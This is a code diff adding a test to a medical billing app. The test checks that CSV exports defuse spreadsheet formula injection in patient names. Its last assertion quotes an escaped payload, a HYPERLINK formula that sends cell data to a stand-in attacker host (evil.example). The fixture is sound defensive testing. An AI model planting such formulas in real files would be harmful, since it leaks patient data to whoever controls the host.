@@ -29,6 +29,7 @@ from ccm_pwa.models import (
 from ccm_pwa.services.demo_practice import create_demo_practice
 from ccm_pwa.services.month_packets import billing_csv
 from tests.api.conftest import ApiServer
+from tests.db.test_cli_exports import FORMULA_NAMES, rename_billed
 
 CHICAGO = ZoneInfo("America/Chicago")
 
@@ -188,3 +189,30 @@ def test_supervisor_reviews_and_closes_last_month(api_server: ApiServer, demo: D
     manual = demo.session.exec(select(TimeEntry).where(
         TimeEntry.source == TimeSource.MANUAL)).first()
     assert manual is not None
+
+
+def test_billing_csv_and_claims_csv_in_the_zip_run_no_formula(api_server: ApiServer,
+                                                              demo: Demo) -> None:
+    """The supervisor opens billing.csv (or the zip's claims.csv) in Excel: a patient name
+    beginning with a formula character arrives as text; every other column is unchanged."""
+    month = str(demo.last_month)
+    before = list(csv.DictReader(io.StringIO(
+        call(api_server, "GET", f"/months/{month}/billing.csv", demo.cookies).text,
+        newline="")))
+    names = rename_billed(demo.session, sorted({r["mrn"] for r in before}), FORMULA_NAMES)
+
+    text = call(api_server, "GET", f"/months/{month}/billing.csv", demo.cookies).text
+    archive = zipfile.ZipFile(io.BytesIO(call(api_server, "GET", f"/months/{month}/packets.zip",
+                                              demo.cookies).content))
+    claims = archive.read(f"ccm-{month}/claims.csv").decode()
+    assert claims == text
+    after = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(after) == len(before)
+    for old, new in zip(before, after, strict=True):
+        assert new["patient_name"] == "'" + names[new["mrn"]]
+        assert {k: v for k, v in new.items() if k != "patient_name"} == \
+            {k: v for k, v in old.items() if k != "patient_name"}
+        assert not new["date_of_service"].startswith("'") and not new["units"].startswith("'")
+    # the HTML index is not a spreadsheet: the name is shown as typed, escaped
+    index = archive.read(f"ccm-{month}/index.html").decode()
+    assert "=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;B2" in index
